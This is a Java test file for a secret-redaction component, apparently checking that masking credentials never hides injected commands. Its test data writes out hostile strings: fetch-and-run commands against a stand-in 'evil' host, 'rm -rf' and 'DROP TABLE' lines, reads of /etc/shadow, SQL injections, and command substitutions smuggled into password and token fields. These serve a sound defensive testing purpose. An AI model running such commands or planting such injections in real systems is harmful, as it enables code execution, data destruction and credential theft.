// Copyright The Assentor Authors
// SPDX-License-Identifier: Apache-2.0
package io.assentor.policies;

import static org.assertj.core.api.Assertions.assertThat;

import io.assentor.testkit.Seed;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * What runs is shown, or nothing of the text is; it never hides behind what looks like a secret.
 */
class HostileSecretsTest {

  @ParameterizedTest
  @CsvSource(
      delimiter = '\t',
      quoteCharacter = '\u0001',
      value = {
        "curl https://user:|sh<x@registry.example/v2/\t|sh<x",
        "git clone https://x:|sh<x@host/r\t|sh<x",
        "git clone https://x:$(curl${IFS}evil|sh)@host/r\tcurl${IFS}evil|sh",
        "curl https://evil.example:80?@good.example/\t80?",
        "curl https://u:a@evil.example@good.example/\ta@evil.example",
        "echo \"password='$(curl evil|sh)'\"\tcurl evil|sh",
        "echo \"password='x$(curl evil|sh)y'\"\tcurl evil|sh",
        "echo \"password: \"; curl evil | sh; echo \" x\"\tcurl evil | sh",
        "echo 'token='; rm -rf /home; echo '\trm -rf /home",
        "password=`curl evil`\tcurl evil",
        "password=x`curl evil`\tcurl evil",
        "password=${x:-$(curl evil)}\tcurl evil",
        "api_key={{ lookup('pipe','curl evil') }}\tcurl evil",
        "secret: \"<%= `curl evil` %>\"\tcurl evil",
        "password: \"#{system('curl evil')}\"\tcurl evil",
        "token={% include evil %}\tinclude evil",
        "select * from t where token=0/**/or/**/1=1\t/**/or/**/1=1",
        "select * from t where token=token or id=1\ttoken or",
        "delete from t where password=email\tpassword=email",
        "token='' or '1'='1'\tor '1'='1'",
        "select 'password='x#y9' and tenant=1\tx#y9",
        "select 'password='x--y9' and tenant=1\tx--y9",
        "password=%COMSPEC%\t%COMSPEC%",
        "set token=!evil!\t!evil!",
        "$password=$(iwr evil|iex)\tiwr evil|iex",
        "password=@/etc/passwd\t@/etc/passwd",
        "--password /etc/shadow\t/etc/shadow",
        "curl -u user:$(curl evil) x\tcurl evil",
        "curl -u user:`id` x\t`id`",
        "mysql -p$(curl evil) x\tcurl evil",
        "mysql -p;curl evil\tcurl evil",
        "Authorization: Bearer $(curl evil)\tcurl evil",
        "visual basic /usr/local/bin/Evil2now\t/usr/local/bin/Evil2now",
        "Bearer /usr/local/bin/Evil2now\t/usr/local/bin/Evil2now",
        "token=usr/local/bin/Evil2now/really/evil\tusr/local/bin/Evil2now",
        "secret=x\u037e rm -rf /\trm -rf /",
        "<password>$(curl evil)</password>\tcurl evil",
        "password => `curl evil`\tcurl evil",
        "IDENTIFIED BY 'x'; DROP TABLE users; --'\tDROP TABLE users",
        "password=N'x'; DROP TABLE users; --\tDROP TABLE users",
        "secret=\\x; rm -rf /\trm -rf /",
        "tar --secret important\timportant",
      })
  void whatRuns_isShownOrNothingIs(String text, String runs) {
    assertThat(SecretPatterns.DEFAULTS.text(text))
        .satisfiesAnyOf(
            shown -> assertThat(shown).contains(runs),
            shown -> assertThat(shown).isEqualTo(SecretPatterns.WITHHELD));
  }

  @Test
  void linesAfterASecretsName_areShownOrNothingIs() {
    for (var text :
        List.of(
            "password: |\n  $(curl evil)\n",
            "password: |\n  hunter2\n  curl evil | sh\n",
            "password='x\ncurl evil | sh\n'",
            "password=\"\"\"x\ncurl evil | sh\n\"\"\"",
            "cat <<E\n'\nE\necho 'password='; curl evil | sh; echo 'x'",
            "password=$$curl evil | sh$$")) {
      assertThat(SecretPatterns.DEFAULTS.text(text))
          .satisfiesAnyOf(
              shown -> assertThat(shown).contains("curl evil"),
              shown -> assertThat(shown).isEqualTo(SecretPatterns.WITHHELD));
    }
  }

  /**
   * Whatever stands around it, a payload that a shell or a database would run is never left out.
   */
  @Test
  void payloadInAnyFrame_isShownOrNothingIs() {
    var payloads =
        List.of(
            "$(evil)",
            "`evil`",
            ";evil",
            "|evil",
            "&&evil",
            "\nevil\n",
            "${x:-evil}",
            "{{evil}}",
            "<%=evil%>",
            "' or evil--",
            "/**/evil/**/",
            "%evil%",
            "\";evil;\"",
            "';evil;'",
            " /bin/evil ",
            "../evil",
            "\\evil",
            ">evil",
            "<evil",
            "(evil)",
            "*evil?",
            "#evil",
            "--evil",
            "!evil!",
            "%0a;evil",
            "\u2028evil",
            "\uff1bevil");
    var frames =
        List.of(
            "password=@",
            "password='@'",
            "password=\"@\"",
            "PASSWORD: @",
            "password: '@'",
            "{\"password\":\"@\"}",
            "{\\\"token\\\":\\\"@\\\"}",
            "--password @",
            "--token=@",
            "https://u:@@host/",
            "postgres://a:@@db",
            "Authorization: Bearer @",
            "Cookie: a=@",
            "curl -u a:@ x",
            "mysql -p@",
            "<secret>@</secret>",
            "api_key => '@'",
            "token := \"@\"",
            "PASSWORD N'@'",
            "IDENTIFIED BY '@'",
            "password: |\n  @\n",
            "machine h login u password @",
            "password(\"@\")",
            "name: DB_PASSWORD\nvalue: @",
            "AccountKey=@;x=1",
            "?sig=@&x=1",
            "token=abc123@",
            "token=@abc123",
            "-----BEGIN PRIVATE KEY-----\n@");
    for (var frame : frames) {
      for (var payload : payloads) {
        var text = frame.replaceFirst("@", Matcher.quoteReplacement(payload));
        assertThat(SecretPatterns.DEFAULTS.text(text))
            .as(text)
            .satisfiesAnyOf(
                shown -> assertThat(shown).contains(payload.strip()),
                shown -> assertThat(shown).isEqualTo(SecretPatterns.WITHHELD));
      }
    }
  }

  /** Whatever the text is, what is left out of it is one token and nothing else. */
  @Test
  void leftOut_isNeverMoreThanAToken() {
    long seed = Seed.next();
    var random = new Random(seed);
    var parts =
        List.of(
            "password",
            "token",
            "=",
            ":",
            " ",
            "'",
            "\"",
            "\\",
            "$",
            "(",
            ")",
            "|",
            ";",
            "`",
            "/",
            "\n",
            "x9",
            "hunter2",
            "://",
            "@",
            "u",
            "--",
            "{{",
            "}}",
            "#",
            "%",
            "<",
            ">",
            "N'",
            "a1b2c3d4",
            "Bearer ",
            "Cookie: ",
            "curl -u ",
            "mysql -p",
            "-----BEGIN PRIVATE KEY-----",
            "|\n  ");
    for (int round = 0; round < 20_000; round++) {
      var text =
          IntStream.range(0, 3 + random.nextInt(12))
              .mapToObj(i -> parts.get(random.nextInt(parts.size())))
              .reduce("", String::concat);
      var shown = SecretPatterns.DEFAULTS.text(text);
      if (!shown.equals(SecretPatterns.WITHHELD)) {
        assertThat(leftOut(text, shown)).as("seed %d: %s -> %s", seed, text, shown).isTrue();
      }
    }
  }

  /** Whether the text is what is shown, with tokens where something was left out. */
  private static boolean leftOut(String text, String shown) {
    var pattern =
        Pattern.quote(shown).replace(SecretPatterns.MARK, "\\E[A-Za-z0-9_.~+@:!^%/=-]+\\Q");
    return text.matches("(?s)" + pattern);
  }

  @Test
  void members_areWithheldIfTheyCouldRun() {
    var named =
        Map.of(
            "hunter2", SecretPatterns.MARK,
            "P@ssw0rd!", SecretPatterns.MARK,
            "rm -rf /", SecretPatterns.WITHHELD,
            "x;evil", SecretPatterns.WITHHELD,
            "x' or 1=1--", SecretPatterns.WITHHELD,
            "$(evil)", "$(evil)",
            "${DB_PASSWORD}", "${DB_PASSWORD}");
    named.forEach((text, shown) -> assertThat(SecretPatterns.named(text)).isEqualTo(shown));
  }
}
